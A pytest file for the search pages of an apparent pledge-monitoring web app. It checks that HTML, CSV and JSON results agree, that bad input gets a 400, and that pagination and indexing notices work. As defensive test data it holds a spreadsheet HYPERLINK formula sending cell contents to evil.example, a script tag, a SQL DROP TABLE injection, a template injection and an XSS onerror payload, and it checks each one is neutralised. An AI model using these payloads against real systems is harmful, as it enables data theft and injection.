"""The search view: what it finds in the demo world, as a page, as CSV and as JSON."""

import csv
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from app.desk.gate import Desk
from app.desk.pages.search import marked
from app.home import Home
from app.indexing import index_new
from monitor.store import Connection, statements
from monitor.terms import terms
from tests.desks import NOW, client_of, home_at, open_desk, statements_sent

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1) <script>alert(1)</script> \u202eretaw'


@pytest.fixture(scope="module")
def home(demo_world: Path, tmp_path_factory: pytest.TempPathFactory) -> Home:
    """The demo world with its statements, and one more that is hostile."""
    home = home_at(Path(shutil.copytree(demo_world, tmp_path_factory.mktemp("search") / "home")))
    with home.open_store() as store:
        index_new(home, store, NOW)
        with store.begin() as conn:
            _add(conn, [HOSTILE])
    return home


def _add(conn: Connection, quotes: list[str]) -> None:
    """More statements of the organization whose page was seen first."""
    (model, *_) = statements.search(conn, statements.Wanted(organization_id="corvellam-cloud")).sayings
    row = statements.indexed_of(conn, model.page_id)
    assert row is not None
    base = conn.exec_driver_sql("SELECT count(*) FROM statements").scalar_one()
    new = [
        replace(
            model, id=0, quote=quote, key=f"{base + number:064}", technologies=("hostile",), standing=False
        )
        for number, quote in enumerate(quotes)
    ]
    statements.keep(conn, row, new)


@pytest.fixture(scope="module")
def desk(home: Home) -> Iterator[TestClient]:
    with open_desk(home) as client:
        yield client


def found(desk: TestClient, **asked: str) -> list[dict[str, Any]]:
    answer = desk.get("/search.json", params=asked)
    assert answer.status_code == 200
    told = answer.json()
    assert told["schema"] == "pledgewatch.search/1"
    assert told["total"] == len(told["statements"])
    listed: list[dict[str, Any]] = told["statements"]
    return listed


@pytest.mark.parametrize(
    ("asked", "starts"),
    [
        ({"words": "moratorium"}, ["Corvellam Cloud has", "Corvellam Cloud has", "The moratorium in"]),
        ({"words": "moratorium", "standing": "no"}, ["Corvellam Cloud has"]),
        ({"words": '"until further notice"'}, ["Corvellam Cloud has"]),
        ({"words": "databas*"}, ["We will never"]),
        ({"stance": "promises", "standing": "no"}, ["We will publish", "We will publish"]),
        ({"organization": "haldrennick-optics", "party": "police"}, ["We do not", "We will not"]),
        ({"words": "moratorium", "to": "2021-07-01", "standing": "no"}, ["Corvellam Cloud has"]),
        ({"words": "moratorium", "from": "2021-10-01"}, ["Corvellam Cloud has", "The moratorium in"]),
        ({"language": "de"}, []),
        ({"organization": "nobody"}, []),
    ],
)
def test_one_query_finds_the_same_three_times(
    desk: TestClient, asked: dict[str, str], starts: list[str]
) -> None:
    listed = found(desk, **asked)
    assert sorted(" ".join(one["quote"].split()[:3]) for one in listed) == starts
    shown = desk.get("/search", params=asked)
    assert shown.status_code == 200
    assert all(f"/commitments/{one['key']}" in shown.text for one in listed)
    assert shown.text.count("<blockquote") == len(listed)
    rows = list(
        csv.DictReader(
            StringIO(desk.get("/search.csv", params=asked).text.removeprefix("\ufeff"), newline="")
        )
    )
    assert [(row["key"], row["quote"], row["page"]) for row in rows] == [
        (one["key"], one["quote"], one["page"]) for one in listed
    ]


def test_the_words_that_were_looked_for_are_marked(desk: TestClient) -> None:
    text = desk.get("/search", params={"words": "moratori* police"}).text
    assert "<mark>moratorium</mark>" in text
    assert "<mark>police</mark>" in text
    assert 'value="moratori* police"' in text


def test_pieces_joined_are_the_text() -> None:
    pieces = marked("We will not sell.", terms("will sell"))
    assert pieces == [("We ", False), ("will", True), (" not ", False), ("sell", True), (".", False)]


@pytest.mark.parametrize(
    ("asked", "sentence"),
    [
        ({"from": "yesterday"}, "from is “yesterday”: write a day like 2027-03-01"),
        ({"to": "2027-02-30"}, "to is “2027-02-30”"),
        ({"from": "20270301"}, "from is “20270301”"),
        ({"stance": "=1"}, "stance is “=1”: choose one of refuses, limits"),
        ({"standing": "maybe"}, "standing is “maybe”: choose one of yes, no"),
    ],
)
def test_what_cannot_be_asked_gets_one_sentence(
    desk: TestClient, asked: dict[str, str], sentence: str
) -> None:
    for address in ("/search", "/search.csv", "/search.json"):
        answer = desk.get(address, params=asked)
        assert answer.status_code == 400
        assert sentence in answer.text


@pytest.mark.parametrize(
    "words",
    ['"', "'; DROP TABLE statements; --", "NEAR(a b", "{{7*7}}", "<img src=x onerror=alert(1)>", "é" * 900],
)
def test_whatever_is_typed_is_text(desk: TestClient, words: str) -> None:
    answer = desk.get("/search", params={"words": words})
    assert answer.status_code == 200
    assert "<img src=x" not in answer.text
    assert "49" not in answer.text.split('id="words"')[1].split(">")[0]


def test_hostile_words_are_shown_as_text_and_run_in_no_spreadsheet(desk: TestClient) -> None:
    shown = desk.get("/search", params={"technology": "hostile"}).text
    assert "<script>alert" not in shown
    assert "⟨U+202E⟩retaw" in shown
    (row,) = csv.DictReader(
        StringIO(desk.get("/search.csv?technology=hostile").text.removeprefix("\ufeff"), newline="")
    )
    assert row["quote"] == f"'{HOSTILE}"
    (one,) = found(desk, technology="hostile")
    assert one["quote"] == HOSTILE, "JSON keeps the exact text"


def test_the_csv_is_a_file(desk: TestClient) -> None:
    answer = desk.get("/search.csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="statements.csv"'
    assert answer.content.startswith(b"\xef\xbb\xbforganization,page,key,")
    assert answer.content.endswith(b"\r\n")


def test_a_csv_that_is_cut_says_so_in_its_name(desk: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.desk.pages.search.CSV_ROWS", 2)
    answer = desk.get("/search.csv")
    total = desk.get("/search.json").json()["total"]
    assert f"statements-2-of-{total}.csv" in answer.headers["content-disposition"]
    assert "The CSV holds the first 2 only" in desk.get("/search").text


def test_many_statements_come_in_parts_by_the_same_number_of_questions(home: Home, tmp_path: Path) -> None:
    own = home_at(Path(shutil.copytree(home.root, tmp_path / "home")))
    with open_desk(own) as client, own.open_store() as store:
        counts = [_asked(own, "/search?words=camera")]
        with store.begin() as conn:
            _add(conn, [f"A camera of kind {number}." for number in range(120)])
        counts.append(_asked(own, "/search?words=camera"))
        assert counts[0] == counts[1] > 0
        third = client.get("/search?words=camera&page=3").text
        assert 'href="/search?words=camera&amp;page=2" rel="prev"' in third
        assert 'rel="next"' not in third
        assert client.get("/search.json?words=camera&page=2").json()["pages"] == 3


def _asked(home: Home, address: str) -> int:
    with home.open_store() as store:
        client = client_of(Desk(lambda: home, store, lambda: NOW))
        with statements_sent(store) as sent:
            assert client.get(address).status_code == 200
        return len(sent)


def test_it_says_where_the_index_is_behind(own_demo_world: Path) -> None:
    home = home_at(own_demo_world)
    with open_desk(home) as desk, home.open_store() as store:
        assert "Not yet looked at for statements: 6 pages." in desk.get("/search").text
        assert "No statement is known yet." in desk.get("/search").text
        index_new(home, store, NOW - timedelta(days=1))
        assert "ot yet looked at" not in desk.get("/search").text
        with store.begin() as conn:
            known = statements.all_indexed(conn)
            row = next(iter(known.values()))
            statements.keep_indexed(conn, replace(row, fetch_id=1))
        text = desk.get("/search").text
        assert "since their last fetch: 1 page." in text
        assert 'datetime="2027-02-28T09:00:00Z"' in text
